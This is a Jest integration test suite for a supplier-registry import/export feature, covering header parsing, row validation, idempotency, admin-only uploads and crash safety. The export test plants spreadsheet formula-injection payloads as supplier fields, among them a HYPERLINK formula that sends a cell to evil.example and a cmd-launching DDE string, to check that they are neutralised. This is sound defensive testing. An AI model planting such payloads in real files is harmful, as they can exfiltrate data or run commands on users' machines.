import { spawn } from 'node:child_process';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { DataSource } from 'typeorm';
import { SuppliersService } from '#libs/companies';
import { todayInVietnam } from '#libs/core';
import { generateSuppliers, taxCodes, zonePoints } from '#libs/demo-data';
import { csvLine, exportRegistry, importReportCsv, readRegistryFile, RegistryImporter } from '#libs/registry';
import { Taxonomy } from '#libs/taxonomy';
import { generateInto } from '#libs/demo-data';
import { loginAdmin, registerUser, type SignedIn } from '../support/accounts.js';
import { SEARCH, waitForIndex } from '../support/search.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

const IMPORT_CLI = new URL('../../dist/apps/worker/src/cli/import.js', import.meta.url).pathname;
const MUTATION = `mutation($file: Upload!, $dryRun: Boolean) { importSupplierRegistry(file: $file, dryRun: $dryRun) {
  dryRun total created updated unchanged rejected unknownColumns problems { line taxCode field reason code params { name value } } problemsTruncated } }`;

/** Valid tax codes no other test file uses (prefix 09). */
const CODES = taxCodes('09', 3000000, 40);

describe('supplier registry import and export', () => {
  jest.setTimeout(120000);
  let t: TestApp;
  let db: DataSource;
  let importer: RegistryImporter;
  let admin: SignedIn;
  let dir: string;

  beforeAll(async () => {
    t = await startTestApp();
    db = t.app.get(DataSource);
    const suppliers = t.app.get(SuppliersService);
    importer = new RegistryImporter(db, t.app.get(Taxonomy), (input) => suppliers.problemsOf(input));
    admin = await loginAdmin(t);
    dir = mkdtempSync(join(tmpdir(), 'hp-registry-'));
  });
  afterAll(async () => {
    await t?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const csv = (rows: string[][]) => Buffer.from(rows.map((r) => csvLine(r)).join(''));
  const importBuffer = async (content: Buffer, name: string, dryRun = false) =>
    importer.run(await readRegistryFile(content, name), { dryRun });
  /** Everything an import could change, per supplier, and the outbox. */
  const snapshot = async () => ({
    suppliers:
      await db.query(`SELECT s.tax_code, s.version, s.updated_at, s.name_vi, s.processes, s.zone_code, s.latitude, s.verification_status,
        (SELECT json_agg(json_build_object('id', c.id, 'code', c.code, 'until', c.valid_until, 'number', c.certificate_number) ORDER BY c.position) FROM supplier_certifications c WHERE c.supplier_id = s.id) AS certs,
        (SELECT count(*)::int FROM supplier_equipment e WHERE e.supplier_id = s.id) AS equipment
      FROM suppliers s ORDER BY s.tax_code`),
    // The worker adds entries of its own (certificate expiry days); count the import's.
    outbox: (await db.query(`SELECT count(*)::int AS n FROM search_outbox WHERE reason IN ('imported', 'import-updated')`))[0].n as number,
  });

  it('reads Vietnamese headers with and without diacritics and English headers alike; the search index follows', async () => {
    const headers = [
      ['Mã số thuế', 'Tên doanh nghiệp', 'Công nghệ gia công', 'Khu công nghiệp', 'Chứng nhận', 'Công suất tháng', 'Đơn vị công suất'],
      ['ma so thue', 'ten doanh nghiep', 'cong nghe gia cong', 'khu cong nghiep', 'chung nhan', 'cong suat thang', 'don vi cong suat'],
      ['Tax code', 'Name (Vietnamese)', 'Processes', 'Industrial zone', 'Certifications', 'Monthly capacity', 'Capacity unit'],
    ];
    for (const [i, header] of headers.entries()) {
      const result = await importBuffer(
        csv([
          header,
          [CODES[i], `Công ty Nhập Khẩu Mẫu ${i}`, 'Phay CNC; CNC turning', 'Tràng Duệ', 'IATF 16949:2027-05-31', '25000', 'chiếc'],
        ]),
        `h${i}.csv`,
      );
      expect(result).toMatchObject({ created: 1, rejected: 0 });
    }
    const rows = await db.query(
      `SELECT s.processes, s.zone_code, s.monthly_capacity_value::float8 AS capacity, s.monthly_capacity_unit AS unit, s.verification_status, s.created_by, s.latitude IS NOT NULL AS located,
         (SELECT array_agg(c.code || ':' || c.valid_until) FROM supplier_certifications c WHERE c.supplier_id = s.id) AS certs,
         (SELECT count(*)::int FROM search_outbox o WHERE o.aggregate_id = s.id AND o.reason IN ('imported', 'import-updated')) AS outbox,
         (SELECT count(*)::int FROM company_memberships m WHERE m.supplier_id = s.id) AS members
       FROM suppliers s WHERE s.tax_code = ANY($1) ORDER BY s.tax_code`,
      [CODES.slice(0, 3)],
    );
    expect(rows).toEqual(
      Array(3).fill({
        processes: ['CNC_MILLING', 'CNC_TURNING'],
        zone_code: 'TRANG_DUE',
        capacity: 25000,
        unit: 'PCS',
        verification_status: 'UNVERIFIED',
        created_by: null,
        located: true,
        certs: ['IATF_16949:2027-05-31'],
        outbox: 1,
        members: 0,
      }),
    );
    await waitForIndex(t);
    const found = await t.gql<{ searchSuppliers: { hits: { supplier: { nameVi: string } }[] } }>(SEARCH, {
      input: { query: 'Nhập Khẩu Mẫu', hitsPerPage: 10 },
    });
    expect(found.data!.searchSuppliers.hits.map((h) => h.supplier.nameVi).sort()).toEqual(
      [0, 1, 2].map((i) => `Công ty Nhập Khẩu Mẫu ${i}`),
    );
  });

  it('imports only the good rows of a file with bad ones, and reports each problem by line and column', async () => {
    const header = ['tax_code', 'name_vi', 'processes', 'monthly_capacity', 'capacity_unit'];
    const badChecksum = `${CODES[4].slice(0, 9)}${(Number(CODES[4][9]) + 1) % 10}`;
    const lines = [
      csvLine(header),
      csvLine([CODES[3], 'Công ty Tốt Một', 'CNC_MILLING', '1000', 'PCS']),
      csvLine([badChecksum, 'Công ty Sai Mã', 'CNC_MILLING', '', '']),
      csvLine([CODES[5], 'Công ty Quy Trình Lạ', 'đan len thủ công', '', '']),
      csvLine([CODES[6], 'Công ty Công Suất Âm', 'CNC_MILLING', '-5', 'PCS']),
    ];
    const broken = Buffer.concat([
      Buffer.from(`${CODES[7]},C`),
      Buffer.from([0xf4, 0x6e, 0x67]),
      Buffer.from(' ty Hỏng Mã Hóa,CNC_MILLING,,\r\n'),
    ]);
    const content = Buffer.concat([
      Buffer.from(lines.join('')),
      broken,
      Buffer.from(csvLine([CODES[8], 'Công ty Tốt Hai', 'Gia công tiện', '', ''])),
    ]);
    const result = await importBuffer(content, 'bad.csv');
    expect(result).toMatchObject({ total: 6, created: 2, rejected: 4 });
    const problems = result.rows
      .filter((r) => r.outcome === 'rejected')
      .map((r) => [r.line, r.problems.map((p) => `${p.field}: ${p.reason}`).join(' | ')]);
    expect(problems).toEqual([
      [3, expect.stringMatching(/^tax_code: the check digit/)],
      [4, 'processes: unknown process "đan len thủ công"'],
      [5, 'monthly_capacity: must not be less than 0'],
      [6, expect.stringMatching(/^row: contains bytes that are not valid UTF-8/)],
    ]);
    expect(importReportCsv(result).split('\r\n')).toEqual(
      expect.arrayContaining([
        '\uFEFFline,tax_code,outcome,field,reason',
        `2,${CODES[3]},created,,`,
        `5,${CODES[6]},rejected,monthly_capacity,must not be less than 0`,
        `7,${CODES[8]},created,,`,
      ]),
    );
    const stored = await db.query('SELECT tax_code FROM suppliers WHERE tax_code = ANY($1) ORDER BY tax_code', [
      [CODES[3], badChecksum, CODES[5], CODES[6], CODES[7], CODES[8]],
    ]);
    expect(stored.map((r: { tax_code: string }) => r.tax_code)).toEqual([CODES[3], CODES[8]]);
  });

  it('changes nothing when the same file is imported twice, and only what changed when one cell changes', async () => {
    const rows = (capacity: string) => [
      ['tax_code', 'name_vi', 'processes', 'certifications', 'monthly_capacity', 'capacity_unit', 'verification'],
      [CODES[10], 'Công ty Lặp Lại Một', 'CNC_MILLING', 'ISO_9001:2025-01-10/2028-01-09', '500', 'PCS', 'VERIFIED'],
      [CODES[11], 'Công ty Lặp Lại Hai', 'Dập liên hoàn', '', capacity, 'KG', ''],
    ];
    expect(await importBuffer(csv(rows('900')), 'again.csv')).toMatchObject({ created: 2, rejected: 0 });
    const before = await snapshot();
    await new Promise((r) => setTimeout(r, 20)); // so that a rewrite would show in updated_at
    expect(await importBuffer(csv(rows('900')), 'again.csv')).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
    expect(await snapshot()).toEqual(before);

    expect(await importBuffer(csv(rows('950')), 'again.csv', true)).toMatchObject({ dryRun: true, updated: 1, unchanged: 1 });
    expect(await snapshot()).toEqual(before);
    const changedOnce = await importBuffer(csv(rows('950')), 'again.csv');
    expect({ ...changedOnce, rows: changedOnce.rows.map((r) => r.problems) }).toMatchObject({ updated: 1, unchanged: 1, rejected: 0 });
    const after = await snapshot();
    const changed = after.suppliers.filter((s: { version: number }, i: number) => s.version !== before.suppliers[i].version);
    expect(changed.map((s: { tax_code: string; version: number }) => [s.tax_code, s.version])).toEqual([[CODES[11], 2]]);
    expect(after.outbox).toBe(before.outbox + 1);
  });

  it('exports the registry so that importing the export (CSV, XLSX, JSON Lines) changes nothing', async () => {
    await generateInto(db, t.app.get(Taxonomy), 40, 5, 40, () => undefined);
    // A supplier made through the API, with what the format does not carry (equipment, certificate details).
    const created = await t.gql(
      `mutation($input: CreateSupplierInput!) { createSupplier(input: $input) { id } }`,
      {
        input: {
          taxCode: CODES[20],
          nameVi: 'Công ty API Đầy Đủ',
          descriptionVi: 'Dòng một\nDòng hai, có "ngoặc"',
          zoneCode: 'NOMURA_HP',
          processes: ['CNC_MILLING'],
          certifications: [
            { code: 'ISO_9001', validFrom: '2025-01-10', validUntil: '2028-01-09', certificateNumber: 'Q-77', issuingBody: 'QUACERT' },
          ],
          equipment: [{ kind: 'CNC_MACHINING_CENTRE', maker: 'Brother', axes: 5, count: 4 }],
          monthlyCapacity: { value: 0.5, unit: 'TONNES' },
          bestToleranceMm: 0.005,
          contact: { name: 'Chị Lan', phone: '+84 225 3812 345', email: 'lan@example.vn' },
          exportExperience: true,
          exportMarkets: ['JP'],
          languages: ['vi', 'ja'],
        },
      },
      admin.token,
    );
    expect(created.errors).toBeUndefined();
    // Cells a spreadsheet would run as formulas: neutralised in the CSV, restored by the import.
    const formulas = await t.gql(
      `mutation($input: CreateSupplierInput!) { createSupplier(input: $input) { id } }`,
      {
        input: {
          taxCode: CODES[21],
          nameVi: '=HYPERLINK("http://evil.example/?x="&A1,"Mở")',
          tradeNameEn: "-5 Stamping ('minus five')",
          descriptionVi: "'=already quoted\nand more",
          processes: ['STAMPING'],
          contact: { name: '@SUM(1+1)*cmd|" /C calc"!A0', phone: '+84 225 3812 346' },
        },
      },
      admin.token,
    );
    expect(formulas.errors).toBeUndefined();
    const before = await snapshot();
    expect(before.suppliers.length).toBeGreaterThan(40);
    for (const name of ['registry.csv', 'registry.xlsx', 'registry.jsonl']) {
      const path = join(dir, name);
      expect(await exportRegistry(db, path)).toBe(before.suppliers.length);
      const result = await importer.run(await readRegistryFile(await readFile(path), path));
      expect({ name, ...result, rows: undefined }).toMatchObject({
        name,
        total: before.suppliers.length,
        unchanged: before.suppliers.length,
        created: 0,
        updated: 0,
        rejected: 0,
        unknownHeaders: [],
      });
      expect(await snapshot()).toEqual(before);
      if (name === 'registry.csv') {
        const text = readFileSync(path, 'utf8');
        for (const cell of [
          `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Mở"")",`,
          `,'-5 Stamping ('minus five'),`,
          `,"'@SUM(1+1)*cmd|"" /C calc""!A0",`,
          `,'+84 225 3812 346,`,
          `,"''=already quoted\nand more",`,
        ])
          expect(text).toContain(cell);
      }
    }
    // Vietnamese headers round-trip too; an edit in the export updates just that supplier and keeps its equipment and certificate details.
    const path = join(dir, 'registry-vi.csv');
    await exportRegistry(db, path, { headers: 'vi' });
    const edited = readFileSync(path, 'utf8').replace('Công ty API Đầy Đủ', 'Công ty API Đã Sửa');
    const result = await importBuffer(Buffer.from(edited), 'edited.csv');
    expect(result).toMatchObject({ updated: 1, unchanged: before.suppliers.length - 1 });
    const api = (await snapshot()).suppliers.find((s: { tax_code: string }) => s.tax_code === CODES[20]);
    expect(api).toMatchObject({
      name_vi: 'Công ty API Đã Sửa',
      version: 2,
      equipment: 1,
      certs: [expect.objectContaining({ code: 'ISO_9001', number: 'Q-77' })],
    });
  });

  it('offers the import as an ADMIN-only GraphQL upload, with a dry run', async () => {
    const upload = (content: string, token?: string, dryRun = false, name = 'upload.csv') => {
      const req = t.http().post('/graphql').set('apollo-require-preflight', 'true');
      if (token) req.set('authorization', `Bearer ${token}`);
      return req
        .field('operations', JSON.stringify({ query: MUTATION, variables: { file: null, dryRun } }))
        .field('map', JSON.stringify({ 0: ['variables.file'] }))
        .attach('0', Buffer.from(content), name);
    };
    const content = `Mã số thuế,Tên doanh nghiệp,Công nghệ gia công,Ghi chú\n${CODES[30]},Công ty Tải Lên,Phay CNC,x\n${CODES[31]},Công ty Lỗi,không có,\n`;
    const anonymous = await upload(content);
    expect(anonymous.body.errors?.[0]?.extensions?.code).toBe('UNAUTHENTICATED');
    const member = await registerUser(t, 'registry');
    const forbidden = await upload(content, member.token);
    expect(forbidden.body.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const csrf = await t
      .http()
      .post('/graphql')
      .set('authorization', `Bearer ${admin.token}`)
      .field('operations', JSON.stringify({ query: MUTATION, variables: { file: null } }))
      .field('map', JSON.stringify({ 0: ['variables.file'] }))
      .attach('0', Buffer.from(content), 'x.csv');
    expect(csrf.status).toBe(400); // Apollo's CSRF prevention: uploads need the apollo-require-preflight header

    const dry = await upload(content, admin.token, true);
    expect(dry.body.data.importSupplierRegistry).toEqual({
      dryRun: true,
      total: 2,
      created: 1,
      updated: 0,
      unchanged: 0,
      rejected: 1,
      unknownColumns: ['Ghi chú'],
      problemsTruncated: false,
      problems: [
        {
          line: 3,
          taxCode: CODES[31],
          field: 'processes',
          reason: expect.stringMatching(/unknown process "không có"/),
          // the same problem as a stable code and its values, for the console to word in the reader's language
          code: 'UNKNOWN_TERM',
          params: expect.arrayContaining([{ name: 'value', value: 'không có' }]),
        },
      ],
    });
    expect(await db.query('SELECT 1 FROM suppliers WHERE tax_code = $1', [CODES[30]])).toEqual([]);
    const real = await upload(content, admin.token);
    expect(real.body.data.importSupplierRegistry).toMatchObject({ dryRun: false, created: 1, rejected: 1 });
    const [row] = await db.query('SELECT created_by FROM suppliers WHERE tax_code = $1', [CODES[30]]);
    expect(row.created_by).toBe(admin.userId);
    const unusable = await upload('just some text', admin.token, false, 'notes.txt');
    expect(unusable.body.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      fieldErrors: [{ field: 'file', reason: expect.stringMatching(/tax_code/) }],
    });
  });

  it('refuses an upload without an ADMIN token before reading its body, and closes the connection', async () => {
    // A multipart request announcing 15 MB that never finishes: the server must answer, and then
    // close the connection rather than wait for (and read) the rest of the body.
    const attempt = (url: string, authorization?: string, operations = JSON.stringify({ query: MUTATION, variables: { file: null } })) =>
      new Promise<{ status: number; body: string; sentBytes: number }>((resolve, reject) => {
        const boundary = 'x-boundary-1234';
        const head =
          `--${boundary}\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${operations}\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0":["variables.file"]}\r\n--${boundary}\r\nContent-Disposition: form-data; name="0"; filename="big.csv"\r\n\r\n`;
        const req = httpRequest(url, {
          method: 'POST',
          headers: {
            'content-type': `multipart/form-data; boundary=${boundary}`,
            'content-length': String(15 * 1024 * 1024),
            'apollo-require-preflight': 'true',
            ...(authorization ? { authorization } : {}),
          },
        });
        let sentBytes = 0;
        const chunk = Buffer.alloc(16 * 1024, 'a');
        req.write(head);
        sentBytes += head.length;
        // Some of the file, then nothing more: the request stays open.
        for (let i = 0; i < 4; i += 1) {
          req.write(chunk);
          sentBytes += chunk.length;
        }
        let answer: { status: number; body: string } | undefined;
        req.on('response', (res) => {
          let body = '';
          res.on('data', (d: Buffer) => (body += d.toString()));
          res.on('end', () => (answer = { status: res.statusCode!, body }));
        });
        req.on('error', () => undefined); // the server closing a request it did not read is the point
        req.on('close', () => (answer ? resolve({ ...answer, sentBytes }) : reject(new Error('closed without an answer'))));
        // Without the early refusal the connection stays open, waiting for the 15 MB that never come.
        setTimeout(() => {
          req.destroy();
          reject(
            new Error(
              `the connection stayed open (answered: ${JSON.stringify(answer)}) while the body was incomplete (${sentBytes} bytes sent)`,
            ),
          );
        }, 20000).unref();
      });
    const member = await registerUser(t, 'bigupload');
    const server = t.app.getHttpServer();
    if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/graphql`;
    // The first case holds a body that cannot be parsed: refused as UNAUTHENTICATED, not as a bad body, because it is never read.
    for (const [authorization, code, operations] of [
      [undefined, 'UNAUTHENTICATED', '{ not json'],
      [undefined, 'UNAUTHENTICATED'],
      ['Bearer not-a-token', 'UNAUTHENTICATED'],
      [`Bearer ${member.token}`, 'FORBIDDEN'],
    ] as const) {
      const answer = await attempt(url, authorization, operations);
      expect(answer.sentBytes).toBeLessThan(100 * 1024);
      expect({ status: answer.status, body: answer.body }).toEqual({
        status: code === 'UNAUTHENTICATED' ? 401 : 403,
        body: expect.stringContaining(`"code":"${code}"`),
      });
    }
  });

  it('leaves every row of a file imported whole or absent when the import process is killed midway', async () => {
    if (!existsSync(IMPORT_CLI)) throw new Error('dist/ is missing: `npm test` builds it before running jest');
    const taxonomy = t.app.get(Taxonomy);
    const inputs = generateSuppliers({
      count: 3000,
      seed: 9,
      zones: zonePoints(taxonomy),
      today: todayInVietnam(),
      taxPrefix: '08',
      taxSequenceStart: 5000000,
    });
    const header = [
      'tax_code',
      'name_vi',
      'processes',
      'materials',
      'zone',
      'employees',
      'certifications',
      'monthly_capacity',
      'capacity_unit',
      'contact_email',
    ];
    const expected = inputs.map((s) => ({
      tax_code: s.taxCode,
      name_vi: s.nameVi,
      processes: [...new Set(s.processes)],
      materials: [...new Set(s.materials)],
      zone_code: s.zoneCode!,
      employees: s.employees!,
      certs: (s.certifications ?? []).map((c) => `${c.code}:${c.validFrom ?? ''}/${c.validUntil ?? ''}`),
      capacity: s.monthlyCapacity!.value,
      unit: s.monthlyCapacity!.unit,
      contact_email: s.contact!.email!,
      outbox: 1,
    }));
    const file = join(dir, 'big.csv');
    writeFileSync(
      file,
      [
        header,
        ...expected.map((e) => [
          e.tax_code,
          e.name_vi,
          e.processes.join('; '),
          e.materials.join('; '),
          e.zone_code,
          String(e.employees),
          e.certs.join('; '),
          String(e.capacity),
          e.unit,
          e.contact_email,
        ]),
      ]
        .map((r) => csvLine(r))
        .join(''),
    );
    const dataDir = mkdtempSync(join(tmpdir(), 'hp-import-cli-'));
    chmodSync(dataDir, 0o755);
    const run = (onStderr?: (text: string, kill: () => void) => void) =>
      new Promise<{ code: number | null; signal: NodeJS.Signals | null; output: string }>((resolve) => {
        const child = spawn(process.execPath, [IMPORT_CLI, file, '--batch', '100', '--report', join(dir, 'big.report.csv')], {
          env: {
            PATH: process.env.PATH!,
            HOME: process.env.HOME ?? '/tmp',
            DATA_DIR: dataDir,
            DATABASE_URL: t.databaseUrl,
            MEILI_URL: process.env.TEST_MEILI_URL!,
            MEILI_MASTER_KEY: process.env.TEST_MEILI_MASTER_KEY!,
            MEILI_INDEX_PREFIX: t.indexPrefix,
            LOG_LEVEL: 'error',
          },
          stdio: ['ignore', 'pipe', 'pipe'],
        });
        let output = '';
        child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
        child.stderr.on('data', (chunk: Buffer) => {
          output += chunk.toString();
          onStderr?.(output, () => child.kill('SIGKILL'));
        });
        child.on('exit', (code, signal) => resolve({ code, signal, output }));
      });
    const stored = async () =>
      await db.query<typeof expected>(
        `SELECT s.tax_code, s.name_vi, s.processes, s.materials, s.zone_code, s.employees,
           COALESCE((SELECT array_agg(c.code || ':' || COALESCE(c.valid_from::text, '') || '/' || COALESCE(c.valid_until::text, '') ORDER BY c.position) FROM supplier_certifications c WHERE c.supplier_id = s.id), '{}') AS certs,
           s.monthly_capacity_value::float8 AS capacity, s.monthly_capacity_unit AS unit, s.contact_email,
           (SELECT count(*)::int FROM search_outbox o WHERE o.aggregate_id = s.id AND o.reason IN ('imported', 'import-updated')) AS outbox
         FROM suppliers s WHERE s.tax_code LIKE '08%' ORDER BY s.tax_code`,
      );
    try {
      const killed = await run((output, kill) => /importing rows: [1-9]/.test(output) && kill());
      expect(killed.signal).toBe('SIGKILL');
      const partial = await stored();
      expect(partial.length).toBeGreaterThan(0);
      expect(partial.length).toBeLessThan(expected.length);
      const byTaxCode = new Map(expected.map((e) => [e.tax_code, e]));
      expect(partial.filter((row) => JSON.stringify(row) !== JSON.stringify(byTaxCode.get(row.tax_code)))).toEqual([]);

      const finished = await run();
      expect({ code: finished.code, output: finished.output }).toMatchObject({
        code: 0,
        output: expect.stringMatching(
          new RegExp(`Created ${expected.length - partial.length}, updated 0, unchanged ${partial.length}, rejected 0`),
        ),
      });
      expect(await stored()).toEqual([...expected].sort((a, b) => a.tax_code.localeCompare(b.tax_code)));
    } finally {
      rmSync(dataDir, { recursive: true, force: true });
    }
  });
});
